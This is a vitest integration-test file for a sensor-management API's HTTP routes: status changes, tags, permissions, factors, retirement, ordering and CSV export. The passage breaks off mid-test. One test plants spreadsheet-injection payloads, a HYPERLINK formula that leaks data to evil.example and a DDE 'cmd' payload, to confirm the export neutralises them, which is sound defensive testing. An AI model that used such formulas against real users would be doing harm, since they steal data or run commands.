/**
 * Sensors over HTTP on the demo seed (the whole app, every route as registered): single sensor,
 * status table (every pair), tags by type and per-tag permissions, factors, retire, ordering with
 * its CSV, the streamed CSV export, history records and the GSM updater's restart / idle.
 * Every mutation is checked for its audit record, every refusal for leaving the data unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, asc, count, desc, eq, gt, inArray, isNotNull, isNull, ne, sql, type SQL } from 'drizzle-orm';
import type { AnyPgColumn } from 'drizzle-orm/pg-core';
import { createTestApp, type TestApp } from '../support/testApp';
import { lastAudit } from '../support/records';
import { SENSOR_STATUSES, canTransition } from '../../common/domain';
import { PermissionSet } from '../../common/permissions';
import {
  auditLogs,
  contractors,
  installationHistory,
  installationTagValues,
  installations,
  roles,
  sensorTagValues,
  sensors,
  staffUsers,
  tags,
  updaterSensors,
} from '../../server/db/schema';
import { SENSOR_COLUMNS } from '../../server/services/main/sensors/repository';
import { csvCell } from '../../common/csv';
import { exportCsv, planExport } from '../../server/services/main/sensorRoutes';

let t: TestApp;
let admin: string;
const db = () => t.ctx.db;

interface Res {
  status: number;
  body: any; // eslint-disable-line @typescript-eslint/no-explicit-any
  text: string;
  headers: Record<string, unknown>;
}

async function call(
  method: string,
  url: string,
  opts: { token?: string; body?: unknown; headers?: Record<string, string> } = {},
): Promise<Res> {
  const r = await t.call(method, url, { token: opts.token ?? admin, body: opts.body, headers: opts.headers });
  let body: unknown;
  try {
    body = r.json();
  } catch {
    body = undefined;
  }
  return { status: r.statusCode, body, text: r.body, headers: r.headers };
}

let userSeq = 0;
/** A fresh user whose role holds exactly these permissions. */
async function tokenWith(permissions: string[]): Promise<string> {
  const name = `sensors_test_${++userSeq}`;
  const [role] = await db()
    .insert(roles)
    .values({ name, permissions: Object.fromEntries(permissions.map((p) => [p, true])) })
    .returning({ id: roles.id });
  const [user] = await db().insert(staffUsers).values({ name, roleId: role!.id }).returning({ id: staffUsers.id });
  return (await t.ctx.sessions.startSession(db(), user!.id)).tokens.accessToken;
}

async function auditCount(type: string): Promise<number> {
  const [r] = await db().select({ n: count() }).from(auditLogs).where(eq(auditLogs.eventType, type));
  return Number(r!.n);
}

async function tagIdOf(context: string, name: string): Promise<number> {
  const [r] = await db()
    .select({ id: tags.id })
    .from(tags)
    .where(and(eq(tags.context, context), eq(tags.name, name)));
  return r!.id;
}

async function sensorRow(id: number) {
  const [r] = await db().select().from(sensors).where(eq(sensors.id, id));
  return r!;
}

/** The business number (installationId) of a sensor's current installation, as the API shows it. */
async function installationNumber(rowId: number | null): Promise<number | null> {
  if (rowId === null) return null;
  const [i] = await db()
    .select({ n: installations.installationId })
    .from(installations)
    .where(eq(installations.id, rowId));
  return i?.n ?? null;
}

/** RFC 4180 with `;` (quoted fields may hold `;`, `"` doubled, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
      continue;
    }
    if (c === '"' && field === '' && !wasQuoted) {
      quoted = wasQuoted = true;
    } else if (c === ';') {
      row.push(field);
      field = '';
      wasQuoted = false;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      wasQuoted = false;
      i++;
    } else {
      if (c === '\n' || c === '\r') throw new Error(`bare line break in an unquoted field at ${i}`);
      field += c;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || row.length) throw new Error('last line does not end with CRLF');
  return rows;
}

function csvBody(text: string): { header: string[]; rows: string[][] } {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(text.slice(1));
  for (const r of rows) expect(r).toHaveLength(header!.length);
  return { header: header!, rows };
}

/** An installed sensor with a current installation and a contractor, of a communication. */
async function installedSensor(communication?: string, offset = 0) {
  const [r] = await db()
    .select({ id: sensors.id })
    .from(sensors)
    .where(
      and(
        eq(sensors.status, 'Installed'),
        isNotNull(sensors.currentInstallationId),
        isNotNull(sensors.contractorId),
        communication ? eq(sensors.communication, communication) : undefined,
      ),
    )
    .orderBy(asc(sensors.id))
    .offset(offset)
    .limit(1);
  return r!.id;
}

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.tokenOf('admin');
});

afterAll(async () => {
  await t?.close();
});

// ================================================================ GET /sensors/:id

describe('GET /sensors/:id', () => {
  it('answers the row of the list, with the same field gating', async () => {
    const id = await installedSensor();
    const defaultUser = await tokenWith(['view_sensors']);
    for (const token of [admin, defaultUser, await t.tokenOf('viewer')]) {
      const one = await call('GET', `/api/sensors/${id}`, { token });
      const list = await call('GET', `/api/sensors?query=${encodeURIComponent(`id = ${id}`)}`, { token });
      expect(one.status).toBe(200);
      expect(list.body.data.sensors).toHaveLength(1);
      expect(one.body).toEqual({ data: { sensor: list.body.data.sensors[0] } });
    }
    const gated = await call('GET', `/api/sensors/${id}`, { token: defaultUser });
    expect(gated.body.data.sensor.info.sensorToken).toBeUndefined();
    expect(gated.body.data.sensor.info.communication).toBeUndefined();
    expect(gated.body.data.sensor.tags).toEqual({});
    expect(gated.body.data.sensor.params.factors).toEqual({});
    const full = await call('GET', `/api/sensors/${id}`);
    expect(full.body.data.sensor.info.sensorToken).toBe((await sensorRow(id)).sensorToken);
  });

  it('is a 404 for an unknown sensor, 400 for a bad id and 403 without view_sensors', async () => {
    expect((await call('GET', '/api/sensors/999999')).status).toBe(404);
    expect((await call('GET', '/api/sensors/abc')).status).toBe(400);
    const res = await call('GET', '/api/sensors/1', { token: await tokenWith(['view_installations']) });
    expect(res.status).toBe(403);
  });
});

// ================================================================ status

describe('PATCH /sensors/:id/status', () => {
  it('follows the status table for every pair of statuses (225 requests)', async () => {
    const id = await installedSensor(undefined, 3);
    const before = await auditCount('SensorStatusChanged');
    let allowed = 0;
    for (const from of SENSOR_STATUSES) {
      for (const to of SENSOR_STATUSES) {
        await db().update(sensors).set({ status: from }).where(eq(sensors.id, id));
        const res = await call('PATCH', `/api/sensors/${id}/status`, { body: { status: to } });
        const ok = canTransition(from, to);
        expect(res.status, `${from} → ${to}`).toBe(ok ? 200 : 422);
        if (ok) {
          allowed++;
          expect(res.body.data.sensor.info.status).toBe(to);
        } else if (from === 'Retired') {
          expect(res.body.message).toBe(`Sensor ${id} is retired; its status cannot change`);
        } else if (to === 'Retired') {
          expect(res.body.message).toBe(`Status cannot change from ${from} to Retired; retire the sensor instead`);
        } else {
          expect(res.body).toEqual({ status: 422, message: `Status cannot change from ${from} to ${to}` });
        }
        expect((await sensorRow(id)).status).toBe(ok ? to : from);
      }
    }
    expect(allowed).toBeGreaterThan(100);
    expect((await auditCount('SensorStatusChanged')) - before).toBe(allowed);
    await db().update(sensors).set({ status: 'Installed' }).where(eq(sensors.id, id));
  });

  it('audits the change and carries the status to the current installation', async () => {
    const id = await installedSensor(undefined, 4);
    const res = await call('PATCH', `/api/sensors/${id}/status`, { body: { status: 'Suspended' } });
    expect(res.status).toBe(200);
    const row = await sensorRow(id);
    expect(row.status).toBe('Suspended');
    const [inst] = await db().select().from(installations).where(eq(installations.id, row.currentInstallationId!));
    expect(inst!.status).toBe('Suspended');
    const a = await lastAudit(db(), 'SensorStatusChanged');
    expect(a).toMatchObject({
      userName: 'admin',
      sourceName: 'Console',
      message: `Sensor ${id} status changed from Installed to Suspended`,
    });
  });

  it('refuses unknown statuses (400), unknown sensors (404) and callers without edit_sensors_status (403)', async () => {
    const id = await installedSensor(undefined, 5);
    const audits = await auditCount('SensorStatusChanged');
    expect((await call('PATCH', `/api/sensors/${id}/status`, { body: { status: 'Broken' } })).status).toBe(400);
    expect((await call('PATCH', `/api/sensors/${id}/status`, { body: {} })).status).toBe(400);
    expect((await call('PATCH', '/api/sensors/999999/status', { body: { status: 'Ready' } })).status).toBe(404);
    const viewer = await t.tokenOf('viewer');
    expect(
      (await call('PATCH', `/api/sensors/${id}/status`, { token: viewer, body: { status: 'Ready' } })).status,
    ).toBe(403);
    expect((await sensorRow(id)).status).toBe('Installed');
    expect(await auditCount('SensorStatusChanged')).toBe(audits);
  });
});

// ================================================================ tags

describe('PATCH /sensors/:id/tags/:tagId', () => {
  const cases: [tag: string, good: unknown[], bad: unknown[]][] = [
    ['Production batch', ['B2026-01', '', 'a;b'], [1, true, ['x'], { a: 1 }]],
    ['Service notes', ['Long\nmulti-line note'], [2.5, false]],
    ['PM sensor drift', [1.25, -3, 0], ['1.5', true, 'x']],
    ['Hardware revision', [4, 0, -2], [1.5, '4', true]],
    ['Heated inlet', [true, false], ['true', 1, 0]],
    ['Enclosure', ['Rooftop', 'Compact'], ['rooftop', 'Tower', 3]],
  ];

  it.each(cases)('types values of %s and clears with null', async (name, good, bad) => {
    const id = await installedSensor(undefined, 6);
    const tagId = await tagIdOf('sensors', name);
    for (const value of good) {
      const res = await call('PATCH', `/api/sensors/${id}/tags/${tagId}`, { body: { value } });
      expect(res.status, JSON.stringify(value)).toBe(200);
      expect(res.body).toEqual({ data: { tagId, value } });
      const [row] = await db()
        .select({ value: sensorTagValues.value })
        .from(sensorTagValues)
        .where(and(eq(sensorTagValues.entityId, id), eq(sensorTagValues.tagId, tagId)));
      expect(row!.value).toEqual(value);
      expect((await lastAudit(db(), 'SensorTagChanged'))!.message).toBe(
        `Sensor ${id}: tag "${name}" set to ${JSON.stringify(value)}`,
      );
    }
    const kept = good[good.length - 1];
    const audits = await auditCount('SensorTagChanged');
    for (const value of bad) {
      const res = await call('PATCH', `/api/sensors/${id}/tags/${tagId}`, { body: { value } });
      expect(res.status, JSON.stringify(value)).toBe(400);
    }
    expect(await auditCount('SensorTagChanged')).toBe(audits);
    const single = await call('GET', `/api/sensors/${id}`);
    expect(single.body.data.sensor.tags[String(tagId)]).toEqual(kept);

    const cleared = await call('PATCH', `/api/sensors/${id}/tags/${tagId}`, { body: { value: null } });
    expect(cleared.body).toEqual({ data: { tagId, value: null } });
    const rows = await db()
      .select()
      .from(sensorTagValues)
      .where(and(eq(sensorTagValues.entityId, id), eq(sensorTagValues.tagId, tagId)));
    expect(rows).toEqual([]);
    expect((await lastAudit(db(), 'SensorTagChanged'))!.message).toBe(`Sensor ${id}: tag "${name}" cleared`);
  });

  it('keeps META tags read-only and needs a sensors tag and a value', async () => {
    const id = await installedSensor(undefined, 6);
    const meta = await tagIdOf('sensors', 'Firmware build');
    const res = await call('PATCH', `/api/sensors/${id}/tags/${meta}`, { body: { value: 'x' } });
    expect(res.status).toBe(422);
    expect(res.body.message).toMatch(/read-only/);
    const installationTag = await tagIdOf('installations', 'Floor');
    expect((await call('PATCH', `/api/sensors/${id}/tags/${installationTag}`, { body: { value: 1 } })).status).toBe(
      404,
    );
    expect((await call('PATCH', `/api/sensors/${id}/tags/99999`, { body: { value: 1 } })).status).toBe(404);
    expect((await call('PATCH', `/api/sensors/999999/tags/${meta}`, { body: { value: 1 } })).status).toBe(404);
    const batch = await tagIdOf('sensors', 'Production batch');
    expect((await call('PATCH', `/api/sensors/${id}/tags/${batch}`, { body: {} })).status).toBe(400);
  });

  it('checks edit_tags, edit_sensor_tags and edit_sensor_tag_<id> per tag', async () => {
    const id = await installedSensor(undefined, 7);
    const batch = await tagIdOf('sensors', 'Production batch');
    const revision = await tagIdOf('sensors', 'Hardware revision');
    const perTag = await tokenWith(['view_sensors', `view_sensor_tag_${batch}`, `edit_sensor_tag_${batch}`]);
    expect(
      (await call('PATCH', `/api/sensors/${id}/tags/${batch}`, { token: perTag, body: { value: 'B1' } })).status,
    ).toBe(200);
    const refused = await call('PATCH', `/api/sensors/${id}/tags/${revision}`, { token: perTag, body: { value: 3 } });
    expect(refused.status).toBe(403);
    expect(refused.body.message).toContain(`edit_sensor_tag_${revision}`);
    // the per-tag viewer sees exactly that tag on the sensor
    const seen = await call('GET', `/api/sensors/${id}`, { token: perTag });
    expect(Object.keys(seen.body.data.sensor.tags)).toEqual([String(batch)]);

    for (const perm of ['edit_sensor_tags', 'EDIT_TAGS']) {
      const token = await tokenWith(['view_sensors', perm]);
      expect((await call('PATCH', `/api/sensors/${id}/tags/${revision}`, { token, body: { value: 2 } })).status).toBe(
        200,
      );
    }
    const none = await tokenWith(['view_sensors', 'edit_installation_tags', 'view_tags']);
    expect(
      (await call('PATCH', `/api/sensors/${id}/tags/${batch}`, { token: none, body: { value: 'B9' } })).status,
    ).toBe(403);
    const [row] = await db()
      .select({ value: sensorTagValues.value })
      .from(sensorTagValues)
      .where(and(eq(sensorTagValues.entityId, id), eq(sensorTagValues.tagId, batch)));
    expect(row!.value).toBe('B1');
  });
});

// ================================================================ factors

describe('PATCH /sensors/:id/factors/:param', () => {
  it('sets all three, clears with all null, and audits both', async () => {
    const id = await installedSensor(undefined, 8);
    const res = await call('PATCH', `/api/sensors/${id}/factors/pm10`, { body: { A: 0.5, B: 1.1, C: -0.002 } });
    expect(res.body).toEqual({ data: { param: 'pm10', factors: { A: 0.5, B: 1.1, C: -0.002 } } });
    expect((await sensorRow(id)).factors.pm10).toEqual({ A: 0.5, B: 1.1, C: -0.002 });
    expect((await lastAudit(db(), 'FactorsUpdated'))!.message).toBe(
      `Sensor ${id}: pm10 factors set to A=0.5, B=1.1, C=-0.002`,
    );
    const single = await call('GET', `/api/sensors/${id}`);
    expect(single.body.data.sensor.params.factors.pm10).toEqual({ A: 0.5, B: 1.1, C: -0.002 });

    const cleared = await call('PATCH', `/api/sensors/${id}/factors/pm10`, { body: { A: null, B: null, C: null } });
    expect(cleared.body).toEqual({ data: { param: 'pm10', factors: null } });
    expect((await sensorRow(id)).factors.pm10).toBeUndefined();
    expect((await lastAudit(db(), 'FactorsUpdated'))!.message).toBe(`Sensor ${id}: pm10 factors cleared`);
    expect((await call('PATCH', `/api/sensors/${id}/factors/pm10`, { body: {} })).body.data.factors).toBeNull();
  });

  it("refuses partial sets with 'All factors must be filled' and unknown parameters, changing nothing", async () => {
    const id = await installedSensor(undefined, 8);
    await call('PATCH', `/api/sensors/${id}/factors/pm25`, { body: { A: 1, B: 2, C: 3 } });
    const audits = await auditCount('FactorsUpdated');
    for (const body of [{ A: 1 }, { A: 1, B: 2, C: null }, { B: 0 }]) {
      const res = await call('PATCH', `/api/sensors/${id}/factors/pm25`, { body });
      expect(res.body).toEqual({ status: 400, message: 'All factors must be filled' });
    }
    expect((await call('PATCH', `/api/sensors/${id}/factors/pm25`, { body: { A: '1', B: 2, C: 3 } })).status).toBe(400);
    for (const param of ['no2', 'ox', 'PM25', 'x']) {
      const res = await call('PATCH', `/api/sensors/${id}/factors/${param}`, { body: { A: 1, B: 2, C: 3 } });
      expect(res.status, param).toBe(400);
    }
    expect((await call('PATCH', '/api/sensors/999999/factors/pm25', { body: { A: 1, B: 2, C: 3 } })).status).toBe(404);
    expect((await sensorRow(id)).factors.pm25).toEqual({ A: 1, B: 2, C: 3 });
    expect(await auditCount('FactorsUpdated')).toBe(audits);
  });

  it('accepts edit_<param>_factors for that parameter only', async () => {
    const id = await installedSensor(undefined, 9);
    const token = await tokenWith(['view_sensors', 'edit_pm25_factors']);
    expect((await call('PATCH', `/api/sensors/${id}/factors/pm25`, { token, body: { A: 0, B: 1, C: 0 } })).status).toBe(
      200,
    );
    const refused = await call('PATCH', `/api/sensors/${id}/factors/pm10`, { token, body: { A: 0, B: 1, C: 0 } });
    expect(refused.status).toBe(403);
    const viewer = await t.tokenOf('viewer');
    expect(
      (await call('PATCH', `/api/sensors/${id}/factors/pm25`, { token: viewer, body: { A: 0, B: 1, C: 0 } })).status,
    ).toBe(403);
  });
});

// ================================================================ retire

describe('DELETE /sensors/:id (retire)', () => {
  it('retires: Retired, installation ended, contractor cleared, audited, once', async () => {
    const id = await installedSensor('GSM', 10);
    const before = await sensorRow(id);
    const instId = before.currentInstallationId!;
    const snapshots = await db()
      .select({ n: count() })
      .from(installationHistory)
      .where(eq(installationHistory.installationId, instId));
    const res = await call('DELETE', `/api/sensors/${id}`);
    expect(res.status).toBe(200);
    expect(res.body.data.sensor.info).toMatchObject({
      id,
      status: 'Retired',
      currentInstallationId: null,
      contractor: null,
    });
    const after = await sensorRow(id);
    expect(after).toMatchObject({ status: 'Retired', currentInstallationId: null, contractorId: null });
    expect(after.retiredAt).toBeInstanceOf(Date);
    const [inst] = await db().select().from(installations).where(eq(installations.id, instId));
    expect(inst!.removedAt).toBeInstanceOf(Date);
    expect(inst!.status).toBe('Retired');
    const snapshotsAfter = await db()
      .select({ n: count() })
      .from(installationHistory)
      .where(eq(installationHistory.installationId, instId));
    expect(Number(snapshotsAfter[0]!.n)).toBe(Number(snapshots[0]!.n) + 1);
    expect((await lastAudit(db(), 'SensorRetired'))!.message).toBe(
      `Sensor ${id} retired (was Installed); installation ${inst!.installationId} ended`,
    );

    const again = await call('DELETE', `/api/sensors/${id}`);
    expect(again).toMatchObject({ status: 409, body: { status: 409, message: `Sensor ${id} is already retired` } });
    const status = await call('PATCH', `/api/sensors/${id}/status`, { body: { status: 'Ready' } });
    expect(status.status).toBe(422);
    // the installations list no longer shows the ended installation as current
    const current = await call('GET', `/api/installations?query=${encodeURIComponent(`id = ${instId}`)}`);
    expect(current.body.meta.totalCount).toBe(0);
  });

  it('needs remove_sensors and an existing sensor', async () => {
    const id = await installedSensor(undefined, 11);
    expect((await call('DELETE', `/api/sensors/${id}`, { token: await t.tokenOf('viewer') })).status).toBe(403);
    expect((await call('DELETE', '/api/sensors/999999')).status).toBe(404);
    expect((await sensorRow(id)).status).toBe('Installed');
  });
});

// ================================================================ order

describe('POST /sensors (order)', () => {
  const order = {
    amount: 3,
    communication: 'NBIOT',
    measured: ['pm10', 'pm25', 'no2'],
    latitude: 50.057,
    longitude: 19.96,
    contractorId: null,
  };

  it('creates the sensors in one go and answers the CSV sensory-<date>.csv', async () => {
    const batch = await tagIdOf('sensors', 'Production batch');
    const mounting = await tagIdOf('installations', 'Mounting');
    const [contractor] = await db().select({ id: contractors.id }).from(contractors).limit(1);
    const audits = await auditCount('SensorsOrdered');
    const res = await call('POST', '/api/sensors', {
      body: {
        ...order,
        contractorId: contractor!.id,
        sensorTags: { [batch]: 'B2026-11; "special"' },
        installationTags: { [mounting]: 'Roof' },
        sensorFactors: { pm25: { A: 0, B: 1, C: 0 }, pm10: { A: null, B: null, C: null } },
      },
      headers: { accept: 'text/csv' },
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const date = new Date().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="sensory-${date}.csv"`);
    expect(res.text.startsWith('\uFEFFid;sensorToken;communication;measured;status\r\n')).toBe(true);
    const { header, rows } = csvBody(res.text);
    expect(header).toEqual(['id', 'sensorToken', 'communication', 'measured', 'status']);
    expect(rows).toHaveLength(3);
    const ids = rows.map((r) => Number(r[0]));
    const created = await db().select().from(sensors).where(inArray(sensors.id, ids)).orderBy(asc(sensors.id));
    expect(created).toHaveLength(3);
    for (const [i, s] of created.entries()) {
      expect(rows[i]).toEqual([String(s.id), s.sensorToken, 'NBIOT', 'pm25,pm10,no2', 'InProduction']);
      expect(s).toMatchObject({
        status: 'InProduction',
        communication: 'NBIOT',
        measured: ['pm25', 'pm10', 'no2'],
        contractorId: contractor!.id,
      });
      expect(s.factors).toEqual({ pm25: { A: 0, B: 1, C: 0 } });
      expect(s.sensorToken).toMatch(/^[0-9a-f]{32}$/);
      const [inst] = await db().select().from(installations).where(eq(installations.id, s.currentInstallationId!));
      expect(inst).toMatchObject({
        sensorId: s.id,
        latitude: 50.057,
        longitude: 19.96,
        isVisible: false,
        removedAt: null,
        contractorId: contractor!.id,
      });
      const [sv] = await db().select().from(sensorTagValues).where(eq(sensorTagValues.entityId, s.id));
      expect(sv).toMatchObject({ tagId: batch, value: 'B2026-11; "special"' });
      const [iv] = await db().select().from(installationTagValues).where(eq(installationTagValues.entityId, inst!.id));
      expect(iv).toMatchObject({ tagId: mounting, value: 'Roof' });
    }
    expect(new Set(created.map((s) => s.sensorToken)).size).toBe(3);
    expect(await auditCount('SensorsOrdered')).toBe(audits + 1);
    expect((await lastAudit(db(), 'SensorsOrdered'))!.message).toBe('Ordered 3 new sensors');
  });

  it('answers JSON without Accept: text/csv', async () => {
    const res = await call('POST', '/api/sensors', { body: { ...order, amount: 1 } });
    expect(res.status).toBe(200);
    expect(res.body.data.sensors).toHaveLength(1);
    expect(res.body.data.sensors[0]).toMatchObject({
      communication: 'NBIOT',
      measured: ['pm25', 'pm10', 'no2'],
      status: 'InProduction',
    });
  });

  it('orders 1000 sensors in one request, with unique tokens and installation numbers', async () => {
    const res = await call('POST', '/api/sensors', {
      body: { ...order, amount: 1000 },
      headers: { accept: 'text/csv' },
    });
    expect(res.status).toBe(200);
    const { rows } = csvBody(res.text);
    expect(rows).toHaveLength(1000);
    expect(new Set(rows.map((r) => r[1])).size).toBe(1000);
    const ids = rows.map((r) => Number(r[0]));
    const [inst] = await db()
      .select({ n: sql<number>`count(distinct ${installations.installationId})::int` })
      .from(installations)
      .where(inArray(installations.sensorId, ids));
    expect(inst!.n).toBe(1000);
  });

  it('refuses bad input with 400 and creates nothing', async () => {
    const [{ n: before }] = (await db().select({ n: count() }).from(sensors)) as [{ n: number }];
    const audits = await auditCount('SensorsOrdered');
    const batch = await tagIdOf('sensors', 'Production batch');
    const enclosure = await tagIdOf('sensors', 'Enclosure');
    const bad: [string, Record<string, unknown>, number, string?][] = [
      ['amount 0', { amount: 0 }, 400, 'It must be greater than 0'],
      ['amount 1001', { amount: 1001 }, 400, 'It must be less than 1001'],
      ['amount 1.5', { amount: 1.5 }, 400, 'It must be an integer'],
      ['amount text', { amount: '3' }, 400],
      ['no communication', { communication: undefined }, 400],
      ['bad communication', { communication: 'WIRE' }, 400],
      ['no measured', { measured: [] }, 400],
      ['unknown measured', { measured: ['pm25', 'dust'] }, 400],
      ['unknown contractor', { contractorId: 999999 }, 400, 'Contractor 999999 does not exist'],
      ['unknown tag', { sensorTags: { 99999: 'x' } }, 400],
      ['installation tag as sensor tag', { sensorTags: { [await tagIdOf('installations', 'Floor')]: 1 } }, 400],
      ['bad ENUM value', { sensorTags: { [enclosure]: 'Tower' } }, 400],
      ['bad STRING value', { sensorTags: { [batch]: 5 } }, 400],
      ['META tag', { sensorTags: { [await tagIdOf('sensors', 'Firmware build')]: 'x' } }, 422],
      ['partial factors', { sensorFactors: { pm25: { A: 1 } } }, 400, 'pm25: All factors must be filled'],
      ['unknown factor param', { sensorFactors: { no2: { A: 1, B: 1, C: 1 } } }, 400],
      ['no latitude', { latitude: undefined }, 400],
    ];
    for (const [label, patch, status, message] of bad) {
      const res = await call('POST', '/api/sensors', { body: { ...order, ...patch }, headers: { accept: 'text/csv' } });
      expect(res.status, label).toBe(status);
      if (message) expect(res.body.message, label).toContain(message);
    }
    const [{ n: after }] = (await db().select({ n: count() }).from(sensors)) as [{ n: number }];
    expect(Number(after)).toBe(Number(before));
    expect(await auditCount('SensorsOrdered')).toBe(audits);
  });

  it('gates sensor tags by view_sensor_tags and installation tags by view_installation_tags', async () => {
    const batch = await tagIdOf('sensors', 'Production batch');
    const floor = await tagIdOf('installations', 'Floor');
    const plain = await tokenWith(['add_sensors']);
    expect((await call('POST', '/api/sensors', { token: plain, body: order })).status).toBe(200);
    expect(
      (await call('POST', '/api/sensors', { token: plain, body: { ...order, sensorTags: { [batch]: 'x' } } })).status,
    ).toBe(403);
    expect(
      (await call('POST', '/api/sensors', { token: plain, body: { ...order, installationTags: { [floor]: 2 } } }))
        .status,
    ).toBe(403);
    const sensorTagger = await tokenWith(['add_sensors', 'view_sensor_tags']);
    expect(
      (await call('POST', '/api/sensors', { token: sensorTagger, body: { ...order, sensorTags: { [batch]: 'x' } } }))
        .status,
    ).toBe(200);
    expect(
      (
        await call('POST', '/api/sensors', {
          token: sensorTagger,
          body: { ...order, installationTags: { [floor]: 2 } },
        })
      ).status,
    ).toBe(403);
    const all = await tokenWith(['add_sensors', 'view_tags']);
    const both = await call('POST', '/api/sensors', {
      token: all,
      body: { ...order, sensorTags: { [batch]: 'x' }, installationTags: { [floor]: 2 } },
    });
    expect(both.status).toBe(200);
    expect((await call('POST', '/api/sensors', { token: await t.tokenOf('viewer'), body: order })).status).toBe(403);
  });
});

// ================================================================ export

describe('GET /sensors/export', () => {
  it('streams ALL rows of a query (not a page, not capped at 1000) with BOM, `;` and sensors.csv', async () => {
    const query = 'status != Retired';
    const expected = await db()
      .select({ id: sensors.id })
      .from(sensors)
      .where(ne(sensors.status, 'Retired'))
      .orderBy(asc(sensors.id));
    expect(expected.length).toBeGreaterThan(1000);
    const res = await call('GET', `/api/sensors/export?query=${encodeURIComponent(query)}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="sensors.csv"');
    const { header, rows } = csvBody(res.text);
    expect(header.slice(0, 8)).toEqual([
      'id',
      'currentInstallationId',
      'sensorToken',
      'communication',
      'contractorId',
      'contractorName',
      'status',
      'measured',
    ]);
    expect(header).toContain('pm25_A');
    expect(header).toContain('tag.Enclosure');
    expect(rows.map((r) => Number(r[0]))).toEqual(expected.map((r) => r.id));
    const list = await call('GET', `/api/sensors?query=${encodeURIComponent(query)}&limit=10`);
    expect(list.body.meta.totalCount).toBe(rows.length);
  });

  it('exports exactly the rows the list counts, for tag, text-search and joined-field queries', async () => {
    for (const query of [
      'tag."Heated inlet" = true',
      'SEARCH("fundacja")',
      'contractorName ~ "a" and communication in (GSM, NBIOT)',
      'measured = no2 or tag.Enclosure = Rooftop',
      'lastMeasurement > now() - 30d and not status in (Retired, Lost)',
    ]) {
      const q = encodeURIComponent(query);
      const listed: number[] = [];
      let total = 0;
      for (let page = 1; page === 1 || listed.length < total; page++) {
        const list = await call(
          'GET',
          `/api/sensors?query=${q}&limit=1000&page=${page}&sortBy=contractorName&order=desc`,
        );
        expect(list.status, query).toBe(200);
        total = list.body.meta.totalCount;
        listed.push(...list.body.data.sensors.map((s: { id: number }) => s.id));
        if (list.body.data.sensors.length === 0) break;
      }
      expect(total, query).toBeGreaterThan(0);
      const { rows } = csvBody(
        (await call('GET', `/api/sensors/export?query=${q}&sortBy=contractorName&order=desc`)).text,
      );
      expect(rows.length, query).toBe(total);
      expect(new Set(rows.map((r) => Number(r[0]))), query).toEqual(new Set(listed));
    }
  });

  it('writes every value as the database has it, escaped per RFC 4180', async () => {
    const id = await installedSensor(undefined, 12);
    const batch = await tagIdOf('sensors', 'Production batch');
    const notes = await tagIdOf('sensors', 'Service notes');
    const tricky = 'a;b "c"\r\nd';
    await call('PATCH', `/api/sensors/${id}/tags/${batch}`, { body: { value: tricky } });
    await call('PATCH', `/api/sensors/${id}/tags/${notes}`, { body: { value: 'plain' } });
    await call('PATCH', `/api/sensors/${id}/factors/pm1`, { body: { A: 1.5, B: -2, C: 0.001 } });
    const res = await call('GET', `/api/sensors/export?query=${encodeURIComponent(`id = ${id}`)}`);
    expect(res.text).toContain(`;"a;b ""c""\r\nd";`);
    const { header, rows } = csvBody(res.text);
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries(header.map((h, i) => [h, rows[0]![i]]));
    const s = await sensorRow(id);
    const [c] = await db().select().from(contractors).where(eq(contractors.id, s.contractorId!));
    expect(row).toMatchObject({
      id: String(id),
      currentInstallationId: String(await installationNumber(s.currentInstallationId)),
      sensorToken: s.sensorToken,
      communication: s.communication,
      contractorId: String(s.contractorId),
      contractorName: c!.name,
      status: s.status,
      measured: s.measured.join(','),
      pm1_A: '1.5',
      pm1_B: '-2',
      pm1_C: '0.001',
      'tag.Production batch': tricky,
      'tag.Service notes': 'plain',
    });
    expect(csvCell('x')).toBe('x');
    expect(csvCell(null)).toBe('');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(['pm1', 'pm25'])).toBe('pm1,pm25');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(() => csvCell({ a: 1 })).toThrow(/Unhandled CSV value/);
  });

  it('neutralises spreadsheet formulas in every cell (quote prefix) but keeps plain negative numbers', async () => {
    const id = await installedSensor(undefined, 13);
    const batch = await tagIdOf('sensors', 'Production batch');
    const notes = await tagIdOf('sensors', 'Service notes');
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")';
    expect((await call('PATCH', `/api/sensors/${id}/tags/${batch}`, { body: { value: hyperlink } })).status).toBe(200);
    expect((await call('PATCH', `/api/sensors/${id}/factors/pm1`, { body: { A: -3.5, B: -2, C: 0.5 } })).status).toBe(
      200,
    );
    const cases: [string, string][] = [
      ['+1+1', "'+1+1"],
      ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', "'\r=1+1"],
      ['=1+1', "'=1+1"],
      ['-', "'-"],
      ['-7.25', '-7.25'],
      ['a=1', 'a=1'],
    ];
    const exported = async () => {
      const res = await call('GET', `/api/sensors/export?query=${encodeURIComponent(`id = ${id}`)}`);
      expect(res.status).toBe(200);
      const { header, rows } = csvBody(res.text);
      expect(rows).toHaveLength(1);
      return Object.fromEntries(header.map((h, i) => [h, rows[0]![i]]));
    };
    for (const [value, expected] of cases) {
      expect((await call('PATCH', `/api/sensors/${id}/tags/${notes}`, { body: { value } })).status).toBe(200);
      expect((await exported())['tag.Service notes'], JSON.stringify(value)).toBe(expected);
    }
    const row = await exported();
    expect(row['tag.Production batch']).toBe(`'${hyperlink}`);
